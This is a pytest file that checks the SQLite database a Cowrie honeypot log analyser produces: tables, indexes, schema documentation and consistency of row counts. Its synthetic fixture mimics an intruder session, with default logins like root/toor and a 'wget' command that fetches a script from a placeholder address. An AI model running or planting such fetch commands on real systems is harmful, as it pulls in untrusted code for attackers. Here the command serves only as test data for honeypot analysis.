"""cowrie.sqlite: the tables exist with their indexes and a schema_doc table, and the row
counts agree with summary.json, sessions.jsonl and the CSV tables. Three runs: a small
synthetic log, the project's own data (examples/logs, the recorded sensors of
tests/data/multi-sensor and the damaged files of tests/data/quirks; both make test) and all of
../shared/samples (make test-wild)."""

import pytest

import cbtest
from cbtest import analyze, clean_log, dumps, session_events, ts

MAIN_TABLES = {
    "sessions": {"sensor", "session", "src_ip", "start", "end", "duration_s", "login_attempts", "commands"},
    "logins": {"sensor", "session", "time", "username", "password", "success"},
    "commands": {"sensor", "session", "seq", "time", "input", "failed"},
    "downloads": {"sensor", "session", "time", "url", "shasum", "status"},
}
# (table, leading indexed columns) that queries by session, address, time or hash rely on.
# The parts of sessions are views (adding sensor and session) over *_rows tables whose
# primary key (sid, seq) is their index by session.
INDEXES = [
    ("sessions", ("sensor", "session")),
    ("sessions", ("src_ip",)),
    ("logins_rows", ("sid",)),
    ("commands_rows", ("sid",)),
    ("commands_rows", ("input",)),
    ("downloads_rows", ("sid",)),
    ("downloads_rows", ("shasum",)),
    ("ttylogs_rows", ("sid",)),
]


def synthetic_log() -> list:
    """Small log with every kind of child row: logins (ok/failed), commands (one unknown),
    downloads (ok/failed), an upload, a forwarding request, and two sensors."""
    evs = clean_log(3)
    evs += session_events("f00000000001", 1000, sensor="sensor-b", success=False, commands=())
    sid, t = "f00000000002", 2000.0
    more = [
        ("cowrie.session.connect", dict(src_port=1, dst_ip="10.0.0.5", dst_port=22, protocol="ssh")),
        ("cowrie.login.failed", dict(username="admin", password="admin")),
        ("cowrie.login.success", dict(username="root", password="toor")),
        ("cowrie.command.input", dict(input="wget http://198.51.100.1/x.sh; foo")),
        ("cowrie.command.failed", dict(input="foo")),
        ("cowrie.session.file_download", dict(url="http://198.51.100.1/x.sh", shasum="aa" * 32,
                                              outfile="var/lib/cowrie/downloads/" + "aa" * 32)),
        ("cowrie.session.file_download.failed", dict(url="http://198.51.100.1/y")),
        ("cowrie.session.file_upload", dict(filename="up.bin", shasum="bb" * 32, outfile="var/x")),
        ("cowrie.direct-tcpip.request", dict(dst_ip="192.0.2.1", dst_port=443)),
        ("cowrie.session.closed", dict(duration="9.0")),
    ]
    for eid, kw in more:
        evs.append({"eventid": eid, "session": sid, "sensor": "sensor-b", "src_ip": "192.0.2.77",
                    "timestamp": ts(t), **kw})
        t += 1
    return evs


OWN_DATA = ["examples/logs", "tests/data/multi-sensor", "tests/data/quirks"]


@pytest.fixture(scope="module", params=["synthetic", "own", pytest.param("samples", marks=pytest.mark.wild)])
def run(request, cb_bin, tmp_path_factory):
    if request.param == "samples":
        return request.getfixturevalue("all_samples_run")
    if request.param == "own":
        res = analyze(cb_bin, [cbtest.REPO / d for d in OWN_DATA], tmp_path_factory.mktemp("sqlite-own") / "out")
        assert res.rc == 1, res.explain()  # the quirk files have lines that are not events
        assert res.summary["sensors"] == 1 + 2 + 7 and res.summary["eventids"]["cowrie.log.closed"] > 0
        return res
    d = tmp_path_factory.mktemp("sqlite-synthetic")
    (d / "cowrie.json").write_bytes(dumps(synthetic_log()))
    res = analyze(cb_bin, d / "cowrie.json", d / "out")
    assert res.rc == 0, res.explain()
    s = res.summary
    assert (s["sessions"], s["logins"]["attempts"], s["commands"], s["failed_commands"], s["downloads"],
            s["downloads_failed"], s["uploads"], s["tcpip_requests"]) == (5, 6, 7, 1, 1, 1, 1, 1)
    return res


def columns(run, table):
    return {r[1] for r in run.query(f'PRAGMA table_info("{table}")')}


def test_integrity(run):
    assert run.query("PRAGMA integrity_check") == [("ok",)]


@pytest.mark.parametrize("table", MAIN_TABLES)
def test_main_tables_exist_with_columns(run, table):
    cols = columns(run, table)
    assert cols, f"table {table} missing"
    assert MAIN_TABLES[table] <= cols


def test_sessions_keys(run):
    # sid is the row id (in start-time order); (sensor, session) is unique.
    pk = [r[1] for r in run.query('PRAGMA table_info("sessions")') if r[5]]
    assert pk == ["sid"]
    unique = [name for _seq, name, uniq, *_ in run.query('PRAGMA index_list("sessions")') if uniq]
    cols = [tuple(r[2] for r in run.query(f'PRAGMA index_info("{n}")')) for n in unique]
    assert ("sensor", "session") in cols
    starts = [r[0] for r in run.query("SELECT start FROM sessions ORDER BY sid")]
    assert starts == sorted(starts)
    # every child row points at the session it names
    for t in ("logins", "commands", "downloads"):
        assert run.query(f"SELECT count(*) FROM {t} c JOIN sessions s ON s.sid = c.sid "
                         f"WHERE s.sensor <> c.sensor OR s.session <> c.session")[0][0] == 0


@pytest.mark.parametrize("table, cols", INDEXES, ids=[f"{t}({','.join(c)})" for t, c in INDEXES])
def test_indexes(run, table, cols):
    found = []
    for _seq, name, *_ in run.query(f'PRAGMA index_list("{table}")'):
        found.append(tuple(r[2] for r in run.query(f'PRAGMA index_info("{name}")')))
    assert any(ix[: len(cols)] == cols for ix in found), f"no index on {table}{cols}; have {found}"


def test_session_lookup_uses_an_index(run):
    plan = " ".join(str(r[-1]) for r in run.query(
        "EXPLAIN QUERY PLAN SELECT c.* FROM sessions s JOIN commands c ON c.sid = s.sid "
        "WHERE s.sensor='x' AND s.session='y'"))
    assert "USING INDEX" in plan or "USING COVERING INDEX" in plan, plan
    # through the view, the parts are found by the (sensor, session) key, then by sid
    for t in ("logins", "commands", "downloads", "ttylogs"):
        plan = [str(r[-1]) for r in run.query(
            f"EXPLAIN QUERY PLAN SELECT * FROM {t} WHERE sensor='x' AND session='y'")]
        assert not any(p.startswith("SCAN") for p in plan), (t, plan)


def test_schema_doc(run):
    assert columns(run, "schema_doc") >= {"table_name", "column_name", "description"}
    docs = run.query("SELECT table_name, column_name, description FROM schema_doc")
    tables_described = {t for t, c, d in docs if c == "" and d}
    assert set(MAIN_TABLES) <= tables_described, "every main table needs a one-line description"
    # every documented column exists (the doc does not drift from the schema)
    for t, c, d in docs:
        if t in MAIN_TABLES:
            assert d and d.strip(), f"empty schema_doc description for {t}.{c}"
        if c:
            assert c in columns(run, t), f"schema_doc documents {t}.{c}, which does not exist"


def test_row_counts_match_summary(run):
    s = run.summary
    one = lambda sql: run.query(sql)[0][0]
    assert one("SELECT count(*) FROM sessions") == s["sessions"] == len(run.sessions)
    assert one("SELECT sum(closed) FROM sessions") == s["sessions_closed"]
    assert one("SELECT count(*) FROM logins") == s["logins"]["attempts"]
    assert one("SELECT sum(success) FROM logins") == s["logins"]["success"]
    assert one("SELECT count(*) FROM commands") == s["commands"]
    assert one("SELECT sum(failed) FROM commands") == s["failed_commands"]
    assert one("SELECT count(*) FROM downloads WHERE status='ok'") == s["downloads"]
    assert one("SELECT count(*) FROM downloads WHERE status='failed'") == s["downloads_failed"]
    assert one("SELECT count(*) FROM downloads") == s["downloads"] + s["downloads_failed"]
    assert one("SELECT count(DISTINCT sensor) FROM sessions") == s["sensors"]
    assert one("SELECT count(DISTINCT src_ip) FROM sessions WHERE src_ip <> ''") == s["src_ips"]
    assert one("SELECT sum(login_attempts) FROM sessions") == s["logins"]["attempts"]
    assert one("SELECT sum(commands) FROM sessions") == s["commands"]
    tables = {r[0] for r in run.query("SELECT name FROM sqlite_master WHERE type='table'")}
    if "uploads" in tables:
        assert one("SELECT count(*) FROM uploads") == s["uploads"]
    if "tcpip" in tables:
        assert one("SELECT count(*) FROM tcpip") == s["tcpip_requests"]
    if "ttylogs" in tables:
        assert one("SELECT count(*) FROM ttylogs") == s["eventids"].get("cowrie.log.closed", 0)


def test_per_session_counts_consistent(run):
    """sessions.login_attempts / commands agree with the child tables for every session."""
    bad = run.query("""
        SELECT s.sensor, s.session, s.login_attempts, l.n, s.commands, c.n
        FROM sessions s
        LEFT JOIN (SELECT sensor, session, count(*) n FROM logins GROUP BY 1, 2) l USING (sensor, session)
        LEFT JOIN (SELECT sensor, session, count(*) n FROM commands GROUP BY 1, 2) c USING (sensor, session)
        WHERE s.login_attempts <> coalesce(l.n, 0) OR s.commands <> coalesce(c.n, 0)
        LIMIT 5""")
    assert bad == []
    orphans = run.query("""SELECT count(*) FROM commands c
                           WHERE NOT EXISTS (SELECT 1 FROM sessions s WHERE s.sensor=c.sensor AND s.session=c.session)""")
    assert orphans == [(0,)]


def test_summary_tables_match_csv(run):
    """The aggregate tables in SQLite hold the same rows as tables/*.csv."""
    for table, csv_name in [("credentials", "credentials"), ("sensors", "sensors"),
                            ("client_versions", "client_versions")]:
        n_db = run.query(f'SELECT count(*) FROM "{table}"')[0][0]
        rows = run.csv_rows(csv_name)
        assert n_db == len(rows) - 1 > 0, table
    total = sum(int(r[1]) for r in run.csv_rows("sensors")[1:])
    assert total == run.summary["sessions"]
